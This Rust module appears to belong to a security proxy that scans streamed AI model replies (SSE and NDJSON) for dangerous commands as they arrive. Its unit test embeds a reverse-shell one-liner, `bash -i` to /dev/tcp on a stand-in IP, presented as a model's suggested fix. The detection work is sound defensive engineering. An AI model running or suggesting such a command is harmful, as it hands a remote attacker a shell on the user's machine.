//! Streamed bodies (`text/event-stream`, NDJSON) to the detector: the decoders' [`TextPiece`]s go to one
//! incremental [`Scanner`] per logical text, so a command a model spells out over hundreds of events is
//! matched as it completes, without rescanning what came before.
//!
//! ```text
//! decoded body ─▶ SseText / NdjsonText ─▶ TextPiece ─▶ PieceScanner ─┬▶ Stream:  scanners[key].feed (joined)
//!                                                                    │          + window scan per chunk
//!                                                                    └▶ Whole, Decoded: detector.scan (alone)
//! ```
//!
//! Only the pieces are scanned, not the raw event lines: every string a provider streams reaches the
//! detector as a piece (JSON escapes undone), and the rest of an event is framing and bookkeeping (ids,
//! model names, roles; see [`super::accumulate::SKIP_NAMES`]).
//!
//! # Findings while the stream is open
//! A streaming [`Scanner`] may hold a match back until more text follows (it matches in large steps for
//! throughput, and keeps an overlap), which on a held-open stream could be minutes or never. So after
//! each fed chunk, [`PieceScanner::checkpoint`] also scans the last [`CHECK_WINDOW_BYTES`] of every logical
//! text that grew, on its own: a match of up to that length is reported as soon as the event completing
//! it arrives. The work is bounded by the window per key per chunk; nothing is rescanned from the start.
//! Each value is reported once per message (by pattern and fingerprint), whichever pass finds it first.
//!
//! Memory: one scanner and one window per key, and the accumulator keeps at most [`MAX_KEYS`] keys (a
//! further one is handed on as [`PieceKind::Whole`]); [`PieceScanner`] also refuses to open more than
//! `MAX_KEYS + 1`. At most [`MAX_REPORTED`] values are remembered for the once-per-message rule.

use std::collections::{BTreeMap, HashSet};

use super::accumulate::{PieceKind, TextPiece, MAX_KEYS};
use super::ndjson::NdjsonText;
use super::sse::SseText;
use crate::detect::{Detection, Detector, ScanContext, Scanner};

/// Bytes of a logical text scanned again at each checkpoint: the detector's longest rule match (2 KiB)
/// with its snippet context, and room for text the detector still has to unescape.
pub const CHECK_WINDOW_BYTES: usize = 4096;
/// Values remembered per message so that each is reported once; past it, repeats reach the findings
/// writer, whose own dedup window still folds them.
pub const MAX_REPORTED: usize = 4096;

/// One logical text: its incremental scanner and its recent bytes.
#[derive(Debug)]
struct KeyText {
    scanner: Scanner,
    /// The last bytes of the text: up to the window before the last checkpoint, plus what came since.
    tail: Vec<u8>,
    /// Text arrived since the last checkpoint.
    grew: bool,
}

/// Scans text pieces: the pieces of one key through that key's incremental scanner, other pieces alone.
#[derive(Debug)]
pub struct PieceScanner {
    detector: Detector,
    ctx: ScanContext,
    keys: BTreeMap<String, KeyText>,
    reported: HashSet<(&'static str, String)>,
    /// Patterns already reported per logical text: a command that arrives token by token matches again,
    /// with a longer value and so another fingerprint, each time its text grows; one finding per pattern
    /// per text per message is what the operator needs.
    reported_in_key: HashSet<(String, &'static str)>,
}

impl PieceScanner {
    /// A scanner for pieces found in `ctx`.
    pub fn new(detector: &Detector, ctx: ScanContext) -> PieceScanner {
        PieceScanner {
            detector: detector.clone(),
            ctx,
            keys: BTreeMap::new(),
            reported: HashSet::new(),
            reported_in_key: HashSet::new(),
        }
    }

    /// Scans one piece; detections go to `found` once a match is complete (for joined texts: at the
    /// scanner's pace, and at the latest at the next [`PieceScanner::checkpoint`]).
    pub fn piece(&mut self, p: TextPiece<'_>, found: &mut Vec<Detection>) {
        let mut new = Vec::new();
        match p.kind {
            PieceKind::Stream => {
                if !self.keys.contains_key(p.key) && self.keys.len() <= MAX_KEYS {
                    let scanner = self.detector.scanner(self.ctx.clone());
                    self.keys.insert(p.key.to_owned(), KeyText { scanner, tail: Vec::new(), grew: false });
                }
                match self.keys.get_mut(p.key) {
                    Some(k) => {
                        k.scanner.feed(p.text.as_bytes(), &mut new);
                        k.tail.extend_from_slice(p.text.as_bytes());
                        k.grew = true;
                        let key = p.key.to_owned();
                        return self.report_in_key(&key, new, found);
                    }
                    None => new = self.detector.scan(self.ctx.clone(), p.text.as_bytes()),
                }
            }
            PieceKind::Whole | PieceKind::Decoded => new = self.detector.scan(self.ctx.clone(), p.text.as_bytes()),
        }
        self.report(new, found);
    }

    /// Scans the recent window of every logical text that grew since the last checkpoint. Call it after
    /// each fed chunk.
    pub fn checkpoint(&mut self, found: &mut Vec<Detection>) {
        let mut new = Vec::new();
        for (key, k) in self.keys.iter_mut().filter(|(_, k)| k.grew) {
            k.grew = false;
            new.push((key.clone(), self.detector.scan(self.ctx.clone(), &k.tail)));
            let cut = k.tail.len().saturating_sub(CHECK_WINDOW_BYTES);
            k.tail.drain(..cut);
        }
        for (key, d) in new {
            self.report_in_key(&key, d, found);
        }
    }

    /// Ends every logical text (what a scanner still holds is reported) and starts afresh.
    pub fn finish(&mut self, found: &mut Vec<Detection>) {
        self.checkpoint(found);
        for (key, mut k) in std::mem::take(&mut self.keys) {
            let mut new = Vec::new();
            k.scanner.finish(&mut new);
            self.report_in_key(&key, new, found);
        }
    }

    /// Logical texts open.
    pub fn keys(&self) -> usize {
        self.keys.len()
    }

    /// Passes on the detections of logical text `key` whose pattern was not reported for it yet.
    fn report_in_key(&mut self, key: &str, new: Vec<Detection>, found: &mut Vec<Detection>) {
        let fresh: Vec<Detection> = new
            .into_iter()
            .filter(|d| {
                let id = (key.to_owned(), d.pattern);
                if self.reported_in_key.contains(&id) {
                    return false;
                }
                if self.reported_in_key.len() < MAX_REPORTED {
                    self.reported_in_key.insert(id);
                }
                true
            })
            .collect();
        self.report(fresh, found);
    }

    /// Passes on the detections whose value was not reported yet.
    fn report(&mut self, new: Vec<Detection>, found: &mut Vec<Detection>) {
        for d in new {
            let id = (d.pattern, d.fingerprint.clone());
            if self.reported.contains(&id) {
                continue;
            }
            if self.reported.len() < MAX_REPORTED {
                self.reported.insert(id);
            }
            found.push(d);
        }
    }
}

/// Which decoder a streamed body goes through.
#[derive(Debug)]
enum Decoder {
    Sse(SseText),
    Ndjson(NdjsonText),
}

/// One streamed body: its decoder and the scanners of its logical texts.
#[derive(Debug)]
pub struct StreamBody {
    decoder: Decoder,
    pieces: PieceScanner,
}

impl StreamBody {
    /// A `text/event-stream` body.
    pub fn sse(detector: &Detector, ctx: ScanContext) -> StreamBody {
        StreamBody { decoder: Decoder::Sse(SseText::new()), pieces: PieceScanner::new(detector, ctx) }
    }

    /// An NDJSON body.
    pub fn ndjson(detector: &Detector, ctx: ScanContext) -> StreamBody {
        StreamBody { decoder: Decoder::Ndjson(NdjsonText::new()), pieces: PieceScanner::new(detector, ctx) }
    }

    /// Feeds decoded body bytes; detections of the events they complete go to `found`.
    pub fn feed(&mut self, data: &[u8], found: &mut Vec<Detection>) {
        let StreamBody { decoder, pieces } = self;
        let mut on_piece = |p: TextPiece<'_>| pieces.piece(p, found);
        match decoder {
            Decoder::Sse(d) => d.feed(data, &mut on_piece),
            Decoder::Ndjson(d) => d.feed(data, &mut on_piece),
        }
        pieces.checkpoint(found);
    }

    /// The body ended: the open event or line is handled, pending tool-call arguments are decoded, and
    /// every scanner is finished.
    pub fn finish(&mut self, found: &mut Vec<Detection>) {
        let StreamBody { decoder, pieces } = self;
        let mut on_piece = |p: TextPiece<'_>| pieces.piece(p, found);
        match decoder {
            Decoder::Sse(d) => d.finish(&mut on_piece),
            Decoder::Ndjson(d) => d.finish(&mut on_piece),
        }
        pieces.finish(found);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Destination, Direction, Location};

    #[test]
    fn a_command_arriving_token_by_token_is_reported_once_per_pattern() {
        let ctx = ScanContext::new(Direction::Inbound, Destination::new("llm.example", 443), Location::Body);
        let mut body = StreamBody::sse(&crate::detect::shared_default(), ctx);
        let reply = "To fix it, run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` and try again.";
        let mut found = Vec::new();
        for piece in reply.as_bytes().chunks(6) {
            let text = String::from_utf8_lossy(piece);
            let event = serde_json::json!({"choices": [{"index": 0, "delta": {"content": text}}]});
            body.feed(format!("data: {event}\n\n").as_bytes(), &mut found);
        }
        body.feed(b"data: [DONE]\n\n", &mut found);
        body.finish(&mut found);
        let mut patterns: Vec<&str> = found.iter().map(|d| d.pattern).collect();
        assert!(patterns.contains(&"reverse_shell"), "{patterns:?}");
        let n = patterns.len();
        patterns.sort();
        patterns.dedup();
        assert_eq!(patterns.len(), n, "a pattern was reported twice for one text: {found:?}");
    }
}
